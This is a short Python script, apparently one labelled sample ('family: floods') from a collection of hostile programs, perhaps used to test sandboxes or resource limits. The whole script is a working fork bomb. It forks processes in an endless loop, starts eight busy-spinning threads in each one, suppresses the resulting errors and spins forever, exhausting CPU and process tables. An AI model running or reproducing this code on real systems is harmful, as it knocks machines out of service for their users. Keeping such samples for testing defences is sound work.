"""family: floods
tries: to spin on every core with as many processes and threads as there may be
honest: all
"""

# %%
import os
import threading


def spin():
    while True:
        pass


try:
    while os.fork():
        pass
    for _ in range(8):
        threading.Thread(target=spin).start()
except (OSError, RuntimeError):
    pass
spin()
